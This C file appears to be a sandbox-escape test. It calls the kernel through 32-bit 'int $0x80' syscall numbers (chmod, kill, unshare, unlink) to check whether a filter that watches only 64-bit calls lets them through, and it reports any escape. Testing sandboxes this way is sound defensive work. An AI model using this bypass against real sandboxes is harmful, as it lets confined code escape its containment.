// Calls the kernel as a 32-bit program does: other numbers, which a filter for the 64-bit ones would take for harmless calls.
#include "hostile.h"

static long call32(long number, long one, long two) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(one), "c"(two), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static void attack(void) {
    if (fork() == 0) {
        // Below 4 GiB, where such a program has its memory.
        char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        if (path == MAP_FAILED) _exit(0);
        strcpy(path, OUTSIDE "/file");
        enum { unlink32 = 10, chmod32 = 15, kill32 = 37, add_key32 = 286, unshare32 = 310 };
        if (call32(chmod32, (long)path, 0777) == 0) broke_out("chmod of 32 bits");
        if (CANARY && call32(kill32, CANARY, SIGKILL) == 0) broke_out("kill of 32 bits");
        if (call32(unshare32, 0x10000000, 0) == 0) broke_out("unshare of 32 bits");
        if (call32(unlink32, (long)path, 0) == 0) broke_out("unlink of 32 bits");
        _exit(0);
    }
    wait(NULL);
}
